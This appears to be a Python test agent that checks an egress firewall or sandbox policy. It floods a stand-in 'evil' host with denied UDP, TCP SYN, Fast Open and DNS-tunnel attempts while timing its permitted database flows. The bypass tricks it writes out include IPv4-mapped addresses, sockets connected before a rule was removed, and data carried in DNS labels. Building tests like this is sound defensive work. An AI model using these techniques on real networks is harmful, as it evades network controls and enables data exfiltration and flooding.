#!/usr/bin/python3
"""An agent that sends whatever is denied, as fast as it can, while its granted flows go on.

`flood.py MARK SENDERS`: opens what the policy grants and says `open`; at a line of input it starts
to flood and says `flooding`; at the end of its input it ends, and says in a line of JSON what it
tried and how its granted flows fared.
"""

import json
import mmap
import os
import select
import signal
import socket
import struct
import sys
import time

EVIL, EVIL6 = ("10.99.0.66", 9000), ("fd99::66", 9000)
MAPPED, RESOLVER = ("::ffff:10.99.0.66", 9000), ("198.51.100.53", 53)
# What the granted flows wait for an answer. Nothing on this link takes so long.
PATIENCE = 5
# Of a granted flow: as fast as a busy program asks a database.
PAUSE = 0.002
# What is told of the times that answers took, in microseconds.
PARTS = {"p10_us": 0.1, "median_us": 0.5, "p90_us": 0.9, "p99_us": 0.99, "max_us": 1}
# Datagrams between two attempts of the slow kinds, which need a new socket each.
ROUND = 50

KINDS = ["udp4", "udp6", "mapped", "removed4", "removed6", "syn4", "syn6", "fast_open", "query"]


def main(mark, senders):
    flows = {name: granted(*flow) for name, flow in GRANTED.items()}
    removed = [connected("alt.test", 9000, family) for family in (socket.AF_INET, socket.AF_INET6)]
    # For each sender and kind: attempts, and those that the kernel did not refuse.
    counters = Counters(senders)
    say("open")
    sys.stdin.readline()
    children = [fork(flood, mark, removed, counters, sender) for sender in range(senders)]
    pipes = {name: follow(flow) for name, flow in flows.items()}
    say("flooding")
    while sys.stdin.readline():
        say(json.dumps({"attempts": counters.attempts()}))
    fared = {name: stop(*pipe) for name, pipe in pipes.items()}
    for child in children:
        os.kill(child, signal.SIGKILL)
    say(json.dumps({"attempts": counters.attempts(), "kinds": counters.kinds(), "flows": fared}))


# The flood.


def flood(mark, removed, counters, sender):
    v4, v6, mapped = datagrams(socket.AF_INET), datagrams(socket.AF_INET6), datagrams(socket.AF_INET6)
    query = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + bytes([len(mark)]) + mark + b"\4evil\4test\0\0\1\0\1"
    fast = [
        lambda: v4.sendto(mark, EVIL),
        lambda: v6.sendto(mark, EVIL6),
        lambda: mapped.sendto(mark, MAPPED),
        # Connected while a rule allowed it: no hook but the packet's own sees these.
        lambda: removed[0].send(mark),
        lambda: removed[1].send(mark),
    ]
    slow = [
        lambda: fresh(socket.AF_INET, lambda flow: flow.connect(EVIL)),
        lambda: fresh(socket.AF_INET6, lambda flow: flow.connect(EVIL6)),
        lambda: fresh(socket.AF_INET, lambda flow: flow.sendto(mark, socket.MSG_FASTOPEN, EVIL)),
        lambda: v4.sendto(query, RESOLVER),
    ]
    while True:
        for kind, attempt in enumerate(fast):
            counters.add(sender, kind, ROUND, burst(attempt, ROUND))
        for kind, attempt in enumerate(slow, len(fast)):
            counters.add(sender, kind, 1, burst(attempt, 1))


def burst(attempt, times):
    passed = 0
    for _ in range(times):
        try:
            attempt()
            passed += 1
        except OSError:
            pass
    return passed


def fresh(family, act):
    with socket.socket(family, socket.SOCK_STREAM | socket.SOCK_NONBLOCK) as flow:
        try:
            act(flow)
        except BlockingIOError:
            pass  # It is on its way.


def datagrams(family):
    flow = socket.socket(family, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK)
    if family == socket.AF_INET6:
        flow.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    return flow


class Counters:
    """Numbers that all processes share."""

    def __init__(self, senders):
        self.senders = senders
        self.memory = memoryview(mmap.mmap(-1, senders * len(KINDS) * 16)).cast("Q")

    def add(self, sender, kind, attempts, passed):
        place = 2 * (sender * len(KINDS) + kind)
        self.memory[place] += attempts
        self.memory[place + 1] += passed

    def attempts(self):
        return sum(self.memory[::2])

    def kinds(self):
        of = lambda kind, which: sum(self.memory[2 * kind + which :: 2 * len(KINDS)])
        return {name: {"attempts": of(kind, 0), "passed": of(kind, 1)} for kind, name in enumerate(KINDS)}


# The granted flows.


GRANTED = {
    "tcp4": ("db.test", 5432, socket.AF_INET, socket.SOCK_STREAM),
    "tcp6": ("db.test", 5432, socket.AF_INET6, socket.SOCK_STREAM),
    "udp4": ("db.test", 9000, socket.AF_INET, socket.SOCK_DGRAM),
    "udp6": ("db.test", 9000, socket.AF_INET6, socket.SOCK_DGRAM),
}


def granted(host, port, family, kind):
    address = socket.getaddrinfo(host, port, family, kind)[0][4]
    flow = socket.socket(family, kind)
    flow.settimeout(PATIENCE)
    flow.connect(address)
    ask(flow, 0)
    return flow


def connected(host, port, family):
    return granted(host, port, family, socket.SOCK_DGRAM)


def follow(flow):
    """Asks and waits for the answer, until it is told to stop: pipe to tell it, pipe of its report."""
    (stop_read, stop_write), (report_read, report_write) = os.pipe(), os.pipe()

    def converse():
        took, lost, number = [], 0, 0
        while not select.select([stop_read], [], [], PAUSE)[0]:
            number += 1
            start = time.perf_counter()
            try:
                ask(flow, number)
            except OSError as error:
                lost += 1
                print(f"granted flow: {error!r}", file=sys.stderr, flush=True)
                if lost > 9:
                    break
            took.append(time.perf_counter() - start)
        took.sort()
        at = lambda part: round(took[min(len(took) - 1, int(len(took) * part))] * 1e6)
        report = {"asked": len(took), "lost": lost} | {name: at(part) for name, part in PARTS.items()}
        os.write(report_write, json.dumps(report).encode())

    fork(converse)
    os.close(report_write)
    return stop_write, report_read


def ask(flow, number):
    question = struct.pack(">Q", number)
    flow.sendall(question)
    answer = b""
    while answer != question:
        answer = (answer if flow.type == socket.SOCK_STREAM and len(answer) < 8 else b"") + flow.recv(8)
        if not answer:
            raise OSError("closed")


def stop(stop_write, report_read):
    os.write(stop_write, b"!")
    return json.loads(os.read(report_read, 4096))


def fork(act, *arguments):
    child = os.fork()
    if child:
        return child
    try:
        act(*arguments)
    finally:
        os._exit(0)


def say(text):
    print(text, flush=True)


main(sys.argv[1].encode(), int(sys.argv[2]))
